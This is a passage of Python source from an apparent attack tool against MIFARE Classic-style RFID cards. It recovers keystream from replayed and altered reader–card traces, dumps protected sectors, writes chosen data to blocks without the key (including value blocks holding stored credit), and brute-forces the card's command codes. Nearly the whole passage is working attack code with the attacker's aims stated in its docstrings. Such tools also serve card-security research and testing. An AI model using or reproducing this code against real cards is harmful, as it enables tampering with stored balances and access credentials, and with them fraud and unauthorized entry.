    got0, _ = decrypt_at(ks, _SectorReader.RESP_CRC, block0_parts[16:18])
    if got0 != crc_a(block0_full) or not all(parity0):
        raise AttackError("block 0 failed its CRC cross-check")
    dump.mark_block(0, block0_full)
    for block in (1, 2):
        parts = block_parts[block]
        plain, parity_ok = decrypt_at(ks, _SectorReader.RESP, parts[:16])
        got, _ = decrypt_at(ks, _SectorReader.RESP_CRC, parts[16:18])
        if got != crc_a(plain) or not all(parity_ok):
            raise AttackError(f"block {block} failed its CRC cross-check")
        dump.mark_block(block, plain)
    for i in range(6):
        dump.mark(reader.trailer, i, 0, MASKED)
    for i, value in enumerate(trailer_mid):
        dump.mark(reader.trailer, 6 + i, value, KNOWN)
    return SectorReadResult(dump, ks, guess, reader.session.replays,
                            list(reader.log))


def unpack_access(packed: bytes) -> Optional[tuple[int, int, int, int]]:
    """Decode the 3-byte redundant access encoding, or None if torn."""
    if len(packed) != 3:
        return None
    c1 = packed[1] >> 4
    c2 = packed[2] & 0x0F
    c3 = packed[2] >> 4
    if (packed[0] & 0x0F) != (~c1 & 0x0F) or (packed[0] >> 4) != (~c2 & 0x0F) \
            or (packed[1] & 0x0F) != (~c3 & 0x0F):
        return None
    codes = []
    for slot in range(4):
        code = (((c1 >> slot) & 1) << 2) | (((c2 >> slot) & 1) << 1) | ((c3 >> slot) & 1)
        codes.append(code)
    return tuple(codes)


def read_sector(port, trace: Trace, *,
                known_block: Optional[tuple[int, bytes]] = None,
                read_code: int = DEFAULT_COMMANDS.read) -> SectorReadResult:
    """Dump the sector a trace authenticated to, best effort.

    The recorded command's block number is taken from the cleartext
    auth request: a genuine reader authenticates for the block it goes
    on to touch.  Relabeling hypotheses cannot be told apart from the
    inside anyway, because every available cross-check is an XOR
    relation and swapping two reads with known plaintext satisfies all
    of them.

    Without a known block the masked key material in the trailer
    covers the first six bytes of every read response, plus the last
    six when key B is hidden.  A fully known block instead anchors the
    whole response keystream including the CRC positions; every dumped
    block is then CRC checked and the trailer's access bytes must pass
    their redundancy, so a wrong known_block tuple is rejected rather
    than dumped.
    """
    reader = _SectorReader(port, trace, read_code)
    uid = reader.session.uid
    readable_b = key_b_is_readable(port, uid, reader.auth_block)
    reader.log.append(f"key B {'readable' if readable_b else 'hidden'} per auth probe")
    zero_spans = [(0, 6)] if readable_b else [(0, 6), (10, 16)]

    original = reader.auth_block
    reader.log.append(f"taking the recorded read's block from the auth request: {original}")
    ks = reader.command_keystream(original)
    trailer_parts = reader.read_via_morph(original, reader.trailer)
    if trailer_parts is None:
        raise AttackError("card aborted the trailer read")
    for start, end in zero_spans:
        reader.harvest_response(ks, trailer_parts, _SectorReader.RESP, bytes(16),
                                skip=set(range(16)) - set(range(start, end)))

    if known_block is not None:
        block, content = known_block
        if block not in reader.sector_blocks:
            raise AttackError("known block lies outside the traced sector")
        parts = reader.read_via_morph(original, block)
        if parts is None:
            raise AttackError("card aborted the known block read")
        probe = RecoveredKeystream()
        reader.harvest_response(probe, parts, _SectorReader.RESP,
                                with_crc_a(content))
        # Wrong known contents disagree with the trailer's masked key
        # spans here, before any byte is marked Known.
        ks.merge(probe)

    dump = _higher_sector_dump(reader, original, ks, readable_b,
                               known_block is not None)
    return SectorReadResult(dump, ks, original, reader.session.replays,
                            list(reader.log))


def _higher_sector_dump(reader: _SectorReader, guess: int, ks: RecoveredKeystream,
                        readable_b: bool, full: bool) -> SectorDump:
    dump = SectorDump(sector_first_block(reader.auth_block) // 4
                      if reader.auth_block < 128 else
                      32 + (sector_first_block(reader.auth_block) - 128) // 16,
                      reader.sector_blocks)
    data_blocks = [b for b in reader.sector_blocks if b != reader.trailer]
    for block in data_blocks:
        parts = reader.read_via_morph(guess, block)
        if parts is None:
            raise AttackError("card aborted a morphed read")
        if full:
            plain, parity_ok = decrypt_at(ks, _SectorReader.RESP, parts[:16])
            got, _ = decrypt_at(ks, _SectorReader.RESP_CRC, parts[16:18])
            if got != crc_a(plain) or not all(parity_ok):
                raise AttackError(f"block {block} failed its CRC cross-check")
            dump.mark_block(block, plain)
            continue
        # Without a known block the parity rule is the only available
        # cross-check; a wrong block guess fails it almost surely.
        head, head_ok = decrypt_at(ks, _SectorReader.RESP, parts[:6])
        if not all(head_ok):
            raise AttackError(f"block {block} head failed its parity checks")
        for i, value in enumerate(head):
            dump.mark(block, i, value, KNOWN)
        if not readable_b:
            tail, tail_ok = decrypt_at(ks, _SectorReader.RESP + 80, parts[10:16])
            if not all(tail_ok):
                raise AttackError(f"block {block} tail failed its parity checks")
            for i, value in enumerate(tail):
                dump.mark(block, 10 + i, value, KNOWN)
    # Trailer view: key A always masked, key B masked when hidden.
    for i in range(6):
        dump.mark(reader.trailer, i, 0, MASKED)
    if not readable_b:
        for i in range(6):
            dump.mark(reader.trailer, 10 + i, 0, MASKED)
    if full:
        trailer_parts = reader.read_via_morph(guess, reader.trailer)
        if trailer_parts is None:
            raise AttackError("card aborted the trailer read")
        plain, parity_ok = decrypt_at(ks, _SectorReader.RESP, trailer_parts[:16])
        got, _ = decrypt_at(ks, _SectorReader.RESP_CRC, trailer_parts[16:18])
        if got != crc_a(plain) or not all(parity_ok):
            raise AttackError("trailer failed its CRC cross-check")
        # The access bytes carry each condition twice, inverted; a wrong
        # block guess reading uniform content decrypts to garbage here.
        ac_codes = unpack_access(plain[6:9])
        if ac_codes is None:
            raise AttackError("decrypted access bytes violate their redundancy")
        if readable_b != (ac_codes[3] & 0b100 == 0):
            raise AttackError("access bytes disagree with the key B auth probe")
        for i in range(6, 10):
            dump.mark(reader.trailer, i, plain[i], KNOWN)
        if readable_b:
            for i in range(10, 16):
                dump.mark(reader.trailer, i, plain[i], KNOWN)
    return dump


def extend_keystream_via_ack(port, trace: Trace, ks: RecoveredKeystream, *,
                             value_block: int,
                             known_block: tuple[int, Optional[bytes]],
                             rounds: int = 1,
                             read_code: int = DEFAULT_COMMANDS.read,
                             restore_code: int = DEFAULT_COMMANDS.restore,
                             uid_prior: Optional[bytes] = None,
                             _session: Optional[ReplaySession] = None) -> RecoveredKeystream:
    """Grow keystream coverage by sliding reads behind restore commands.

    A restore plus its dummy operand consumes 84 data bits without
    changing card memory, so each round pushes a read of a known block
    84 bits deeper into the stream and harvests the response there.
    known_block gives the block and its 16 plaintext bytes; passing
    None for the bytes means block 0 with a uid_prior covering its
    first bytes.  Raises NotApplicable when the card NACKs the restore
    (no value block at hand).
    """
    session = _session or ReplaySession(port, trace)
    block_index, content = known_block
    if content is None and uid_prior is None:
        raise AttackError("known_block content or uid_prior required")
    grown = RecoveredKeystream()
    grown.merge(ks)
    for round_index in range(1, rounds + 1):
        session.reauthenticate()
        for _ in range(round_index):
            offset = session.offset
            restore = with_crc_a(bytes((restore_code, value_block)))
            response = session.send_parts(encrypt_at(grown, offset, restore))
            if response is None:
                raise NotApplicable("card aborted the restore prefix")
            parts = wire_parts(response)
            if len(parts) != 1:
                raise NotApplicable("restore did not produce a short response")
            code = decrypt_nibble_at(grown, session.offset - 4, parts[0][0])
            if code != ACK:
                raise NotApplicable(f"restore was refused with NACK 0x{code:x}")
            operand = session.send_parts(encrypt_at(grown, session.offset,
                                                    with_crc_a(bytes(4))))
            if operand is not None:
                raise NotApplicable("restore operand was rejected")
        read = with_crc_a(bytes((read_code, block_index)))
        response = session.send_parts(encrypt_at(grown, session.offset, read))
        if response is None:
            raise AttackError("card aborted the slid read")
        parts = wire_parts(response)
        if len(parts) != 18:
            raise AttackError("slid read did not return a block")
        resp_offset = session.offset - 144
        if content is not None:
            plain = with_crc_a(content)
            _harvest(grown, parts, resp_offset, plain)
        else:
            _harvest(grown, parts, resp_offset, uid_prior)
    return grown


def _harvest(ks: RecoveredKeystream, parts: Sequence[tuple[int, bool]],
             offset: int, plain: bytes) -> None:
    for j, p in enumerate(plain):
        cipher, flag = parts[j]
        start = offset + 8 * j
        for k in range(8):
            ks.add_data(start + k, ((cipher ^ p) >> k) & 1)
        sent = flag ^ odd_parity(cipher)
        ks.add_parity(start + 8, sent ^ odd_parity(p))


@dataclass
class WriteResult:
    block: int
    data: bytes
    verified: bool
    replays: int
    log: list[str]
    keystream: Optional[RecoveredKeystream] = None


def write_without_key(port, trace: Trace, block: int, data: bytes, *,
                      keystream: Optional[RecoveredKeystream] = None,
                      commands: CommandTable = DEFAULT_COMMANDS) -> WriteResult:
    """Write attacker-chosen bytes to a block, keyless.

    With no keystream given, the sector is first dumped to harvest
    stream from the card's own structure (masked keys, value block
    redundancy), then extended past the write exchange by restore
    slides when a value block is available.  Coverage is checked in
    stages, so a refusal (read-only block, access denied) surfaces as
    CardRefused using only base coverage, while a keystream too short
    for the 18-byte payload raises a gap error.
    """
    if len(data) != 16:
        raise AttackError("write payload must be 16 bytes")
    log: list[str] = []
    session = ReplaySession(port, trace)
    if block not in sector_blocks(session.auth_request[1]):
        raise AttackError("target block is outside the traced sector")
    ks = keystream
    if ks is None:
        ks = _build_write_keystream(port, trace, session, commands, log)
    write_cmd = with_crc_a(bytes((commands.write, block)))
    payload = with_crc_a(data)
    for index in range(POST_AUTH_OFFSET, POST_AUTH_OFFSET + 36):
        if not ks.has(index):
            raise KeystreamGap(index)
    session.reauthenticate()
    response = session.send_parts(encrypt_at(ks, session.offset, write_cmd))
    if response is None:
        raise AttackError("card aborted the write command")
    code = decrypt_nibble_at(ks, session.offset - 4, wire_parts(response)[0][0])
    if code != ACK:
        raise CardRefused(code)
    # 18 payload bytes with their final parity peek, then the data ACK.
    need_through = POST_AUTH_OFFSET + 36 + 8 * len(payload) + 4
    for index in range(POST_AUTH_OFFSET + 36, need_through):
        if not ks.has(index):
            raise KeystreamGap(index)
    response = session.send_parts(encrypt_at(ks, session.offset, payload))
    if response is None:
        raise AttackError("card aborted the write payload")
    code = decrypt_nibble_at(ks, session.offset - 4, wire_parts(response)[0][0])
    if code != ACK:
        raise CardRefused(code)
    log.append(f"write of block {block} acknowledged")

    session.reauthenticate()
    read_cmd = with_crc_a(bytes((commands.read, block)))
    response = session.send_parts(encrypt_at(ks, session.offset, read_cmd))
    verified = False
    if response is not None and len(wire_parts(response)) == 18:
        parts = wire_parts(response)
        plain, parity_ok = decrypt_at(ks, POST_AUTH_OFFSET + 32, parts[:16])
        got, _ = decrypt_at(ks, POST_AUTH_OFFSET + 160, parts[16:18])
        verified = plain == data and got == crc_a(plain) and all(parity_ok)
    log.append("readback " + ("matches" if verified else "failed"))
    return WriteResult(block, data, verified, session.replays, log, ks)


def _complete_value_block(dump: SectorDump, block: int) -> Optional[bytes]:
    """Reconstruct a value block whose middle bytes are unrecovered.

    The first six and last six bytes pin down the value and address;
    the redundancy pattern then forces bytes 6 through 9.
    """
    row = dump.bytes[block]
    spans = list(row[0:6]) + list(row[10:16])
    if any(status != KNOWN for _, status in spans):
        return None
    value = bytes(row[i][0] for i in range(4))
    if row[4][0] != value[0] ^ 0xFF or row[5][0] != value[1] ^ 0xFF:
        return None
    addr = row[12][0]
    candidate = _encode_value(int.from_bytes(value, "little", signed=True), addr)
    if bytes(row[i][0] for i in range(10, 16)) != candidate[10:16]:
        return None
    return candidate


def _build_write_keystream(port, trace: Trace, session: ReplaySession,
                           commands: CommandTable, log: list[str]) -> RecoveredKeystream:
    """Harvest stream for a write: sector dump plus a restore slide.

    A value block is the key piece: its redundancy completes its own
    plaintext even across the unread access-byte gap, a re-read of it
    then covers the response CRC positions, and restore slides push
    the coverage past the write exchange.  Without one the base
    exchange coverage is returned as is.
    """
    first = sector_first_block(session.auth_request[1])
    if first == 0:
        result = read_sector_zero(port, trace, read_code=commands.read)
    else:
        result = read_sector(port, trace, read_code=commands.read)
    log.extend(result.log)
    ks = result.keystream
    trailer = sector_trailer_block(first)
    value_block = None
    value_full = None
    for candidate in result.dump.block_numbers:
        if candidate == trailer:
            continue
        view = result.dump.block_view(candidate)
        full = view if view is not None else _complete_value_block(result.dump, candidate)
        if full is not None and _value_of(full) is not None:
            value_block, value_full = candidate, full
    if value_block is None:
        log.append("no value block in the sector, coverage stays at the base exchange")
        return ks
    # Re-read the value block with its now fully known plaintext to
    # cover the access-byte gap and the CRC positions.
    session.reauthenticate()
    response = session.send_parts(encrypt_at(ks, session.offset,
                                             with_crc_a(bytes((commands.read, value_block)))))
    if response is None or len(wire_parts(response)) != 18:
        raise AttackError("card aborted the value block re-read")
    _harvest(ks, wire_parts(response), POST_AUTH_OFFSET + 32, with_crc_a(value_full))
    log.append(f"extending keystream via restore on block {value_block}")
    try:
        return extend_keystream_via_ack(port, trace, ks, value_block=value_block,
                                        known_block=(value_block, value_full),
                                        rounds=1, read_code=commands.read,
                                        restore_code=commands.restore,
                                        _session=session)
    except NotApplicable as exc:
        log.append(f"extension skipped: {exc}")
        return ks


@dataclass
class DiscoveryContext:
    """What the attacker knows about its own recorded transaction.

    The attacker drove a genuine reader over its own card, so the
    block, the value block's bytes before the run, and the increment
    amount are known even though the command code bytes are not.
    """

    value_block: int
    initial: bytes
    increment: int


@dataclass
class DiscoveryResult:
    table: Optional[CommandTable]
    codes: dict[str, int]
    attempts: int
    complete: bool
    log: list[str]


def discover_commands(port, trace: Trace, context: DiscoveryContext, *,
                      read_code_hint: int = DEFAULT_COMMANDS.read,
                      budget: int = 4000) -> DiscoveryResult:
    """Recover a card's command code table from one value transaction.

    The trace holds an increment plus transfer with known semantics
    but unknown code bytes.  Same-code morphs cancel the code byte, so
    an absolute anchor is needed; the read code is taken as protocol
    knowledge (standard reader firmware).  Each candidate code is
    tested by morphing it into a read: only the true code turns into
    an 18-byte response.  Remaining codes are then probed directly
    with recovered keystream and classified by their ACK and operand
    behavior plus the value change a transfer commits.
    """
    session = ReplaySession(port, trace)
    post = list(trace.entries[session.auth_index + 4:])
    if len(post) < 5 or [len(e.data) for e in post[:5]] != [4, 1, 6, 4, 1]:
        raise AttackError("trace does not look like increment plus transfer")
    inc_entry, inc_ack, operand_entry, xfer_entry, xfer_ack = post[:5]
    block = context.value_block
    log: list[str] = []
    codes: dict[str, int] = {"read": read_code_hint}

    initial = _value_of(context.initial)
    if initial is None:
        raise AttackError("context initial bytes are not a value block")
    current_value, addr = initial
    current_value += context.increment

    def attempts() -> int:
        return session.attempts

    def guess_code(entry, prefix_verbatim: list, target_read: int,
                   label: str) -> tuple[int, list[tuple[int, bool]]]:
        """Find a command entry's code byte by morphing it into a read."""
        for y in range(256):
            if session.attempts >= budget:
                return -1, []
            session.reauthenticate()
            for verbatim in prefix_verbatim:
                session.send_parts(verbatim.data,
                                   entry_kind(verbatim))
            old = with_crc_a(bytes((y, block)))
            new = with_crc_a(bytes((read_code_hint, target_read)))
            response = session.send_parts(morph_command(entry.data, old, new))
            if response is not None and len(wire_parts(response)) == 18:
                log.append(f"{label} code 0x{y:02x} confirmed after {session.attempts} replays")
                return y, wire_parts(response)
        raise AttackError(f"no candidate code for {label} survived")

    inc_code, read_parts = guess_code(inc_entry, [], block, "increment")
    if inc_code < 0:
        return DiscoveryResult(None, codes, attempts(), False, log)
    codes["increment"] = inc_code

    # Keystream bootstrap from everything now known in the trace.
    ks = RecoveredKeystream()
    _harvest_entry(ks, inc_entry, POST_AUTH_OFFSET, with_crc_a(bytes((inc_code, block))))
    _harvest_nibble(ks, inc_ack, POST_AUTH_OFFSET + 32, ACK)
    operand_plain = with_crc_a(context.increment.to_bytes(4, "little"))
    _harvest_entry(ks, operand_entry, POST_AUTH_OFFSET + 36, operand_plain)
    _harvest(ks, read_parts, POST_AUTH_OFFSET + 32,
             with_crc_a(_encode_value(current_value, addr)))

    xfer_code, slid_parts = guess_code(
        xfer_entry, [inc_entry, operand_entry], block, "transfer")
    if xfer_code < 0:
        return DiscoveryResult(None, codes, attempts(), False, log)
    codes["transfer"] = xfer_code
    # Scanning past the read code morphed the transfer into itself, so
    # one extra increment got committed along the way.
    if read_code_hint < xfer_code:
        current_value += context.increment
        log.append("transfer scan committed one extra increment")
    _harvest_entry(ks, xfer_entry, POST_AUTH_OFFSET + 84,
                   with_crc_a(bytes((xfer_code, block))))
    _harvest_nibble(ks, xfer_ack, POST_AUTH_OFFSET + 116, ACK)
    # The slid read behind the verbatim increment covers deep stream.
    _harvest(ks, slid_parts, POST_AUTH_OFFSET + 116,
             with_crc_a(_encode_value(current_value, addr)))

    remaining = [y for y in range(256)
                 if y not in (read_code_hint, inc_code, xfer_code)]
    for y in remaining:
        if session.attempts >= budget:
            return DiscoveryResult(None, codes, attempts(), False, log)
        session.reauthenticate()
        cmd = with_crc_a(bytes((y, block)))
        response = session.send_parts(encrypt_at(ks, session.offset, cmd))
        if response is None:
            continue
        parts = wire_parts(response)
        if len(parts) != 1:
            continue
        code = decrypt_nibble_at(ks, session.offset - 4, parts[0][0])
        if code != ACK:
            continue
        # ACKed: a write expects 16 data bytes and aborts on a value
        # operand, a value operation accepts the operand silently.
        probe_operand = encrypt_at(ks, session.offset,
                                   with_crc_a((5).to_bytes(4, "little")))
        response = session.send_parts(probe_operand)
        if response is not None:
            continue
        xfer = session.send_parts(xfer_entry.data)
        if xfer is None:
            # The operand aborted the session: only a write does that
            # while still ACKing the command.
            if _confirm_write(session, ks, y, block,
                              _encode_value(current_value, addr)):
                codes["write"] = y
                log.append(f"write code 0x{y:02x} confirmed after {session.attempts} replays")
            continue
        ack = decrypt_nibble_at(ks, session.offset - 4, wire_parts(xfer)[0][0])
        if ack != ACK:
            continue
        # Committed: read the block back through a fresh replay.
        session.reauthenticate()
        read_cmd = with_crc_a(bytes((read_code_hint, block)))
        readback = session.send_parts(encrypt_at(ks, session.offset, read_cmd))
        if readback is None:
            continue
        plain, _ = decrypt_at(ks, POST_AUTH_OFFSET + 32, wire_parts(readback)[:4])
        seen = int.from_bytes(plain, "little", signed=True)
        delta = seen - current_value
        current_value = seen
        if delta == 5:
            codes.setdefault("increment_alias", y)
        elif delta == -5:
            codes["decrement"] = y
            log.append(f"decrement code 0x{y:02x} confirmed after {session.attempts} replays")
        elif delta == 0:
            codes["restore"] = y
            log.append(f"restore code 0x{y:02x} confirmed after {session.attempts} replays")
    complete = all(name in codes for name in
                   ("read", "write", "increment", "decrement", "restore", "transfer"))
    table = None
    if complete:
        table = CommandTable(read=codes["read"], write=codes["write"],
                             increment=codes["increment"], decrement=codes["decrement"],
                             restore=codes["restore"], transfer=codes["transfer"])
    return DiscoveryResult(table, codes, attempts(), complete, log)


def _confirm_write(session: ReplaySession, ks: RecoveredKeystream, code: int,
                   block: int, current_content: bytes) -> bool:
    """Rewrite a block with its own bytes to confirm a write code."""
    try:
        session.reauthenticate()
        cmd = with_crc_a(bytes((code, block)))
        response = session.send_parts(encrypt_at(ks, session.offset, cmd))
        if response is None:
            return False
        if decrypt_nibble_at(ks, session.offset - 4,
                             wire_parts(response)[0][0]) != ACK:
            return False
        payload = with_crc_a(current_content)
        response = session.send_parts(encrypt_at(ks, session.offset, payload))
        if response is None:
            return False
        return decrypt_nibble_at(ks, session.offset - 4,
                                 wire_parts(response)[0][0]) == ACK
    except KeystreamGap:
        return False


def _harvest_entry(ks: RecoveredKeystream, entry: TraceEntry, offset: int,
                   plain: bytes) -> None:
    _harvest(ks, entry.data, offset, plain)


def _harvest_nibble(ks: RecoveredKeystream, entry: TraceEntry, offset: int,
                    plain: int) -> None:
    cipher = entry.payload[0]
    for k in range(4):
        ks.add_data(offset + k, ((cipher ^ plain) >> k) & 1)


def _value_of(block: bytes) -> Optional[tuple[int, int]]:
    if len(block) != 16:
        return None
    value = block[0:4]
    if block[4:8] != bytes(b ^ 0xFF for b in value) or block[8:12] != value:
        return None
    addr = block[12]
    if block[13] != addr ^ 0xFF or block[14] != addr or block[15] != addr ^ 0xFF:
        return None
    return int.from_bytes(value, "little", signed=True), addr


def _encode_value(value: int, addr: int) -> bytes:
    raw = (value & 0xFFFFFFFF).to_bytes(4, "little")
    inverted = bytes(b ^ 0xFF for b in raw)
    return raw + inverted + raw + bytes((addr, addr ^ 0xFF, addr, addr ^ 0xFF))


@dataclass
class BruteforceEstimate:
    key_bits: int
    seconds_per_key: float
    total_seconds: float
    days: float
    years: float

    def report(self) -> str:
        return (f"{2 ** self.key_bits} keys at {self.seconds_per_key} s each: "
                f"{self.days:,.1f} days, {self.years:,.1f} years")


def estimate_bruteforce(seconds_per_key: float, key_bits: int = 48) -> BruteforceEstimate:
    """Time to sweep the whole key space at a fixed per-key cost."""
    if seconds_per_key <= 0:
        raise ValueError("seconds_per_key must be positive")
    if key_bits <= 0:
        raise ValueError("key_bits must be positive")
    total = float(2 ** key_bits) * seconds_per_key
    days = total / 86400.0
    return BruteforceEstimate(key_bits, seconds_per_key, total, days, days / 365.0)


def decrypt_trace(trace: Trace, ks: RecoveredKeystream) -> str:
    """Render a trace with recovered plaintext next to the ciphertext.

    Unknown bytes print as "??".  A high rate of parity failures among
    the decrypted bytes suggests the keystream is misaligned, which is
    reported as a trailing warning line.
    """
    offsets = stripped_offsets(trace)
    lines = []
    checked = 0
    failed = 0
    for entry in trace.entries:
        cipher_text = " ".join(f"{b:02x}{'!' if f else ''}" for b, f in entry.data)
        if entry.seq not in offsets:
            lines.append(f"{entry.seq:02d} {entry.sender} {cipher_text}  | clear")
            continue
        base = offsets[entry.seq]
        kind = entry_kind(entry)
        if kind is FrameKind.NIBBLE4:
            if all(ks.has(base + k) for k in range(4)):
                plain = decrypt_nibble_at(ks, base, entry.payload[0])
                lines.append(f"{entry.seq:02d} {entry.sender} {cipher_text}  | {plain:x}")
            else:
                lines.append(f"{entry.seq:02d} {entry.sender} {cipher_text}  | ??")
            continue
        rendered = []
        for j, (cipher, flag) in enumerate(entry.data):
            start = base + 8 * j
            if all(ks.has(start + k) for k in range(8)) and ks.has(start + 8):
                plain, ok = decrypt_at(ks, start, [(cipher, flag)])
                rendered.append(f"{plain[0]:02x}")
                checked += 1
                if not ok[0]:
                    failed += 1
            else:
                rendered.append("??")
        lines.append(f"{entry.seq:02d} {entry.sender} {cipher_text}  | " + " ".join(rendered))
    if checked and failed * 3 > checked:
        lines.append(f"warning: {failed}/{checked} parity checks failed, "
                     "keystream may be misaligned")
    return "\n".join(lines) + "\n"
